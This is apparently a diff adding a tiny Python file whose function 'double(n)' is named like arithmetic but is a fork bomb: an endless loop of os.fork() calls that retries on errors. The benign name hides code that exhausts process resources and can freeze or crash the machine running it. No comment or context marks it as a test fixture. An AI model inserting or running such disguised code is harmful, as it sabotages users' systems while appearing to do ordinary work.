@@ -1,0 +1,10 @@
+# mypy: ignore-errors
+import os
+
+
+def double(n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
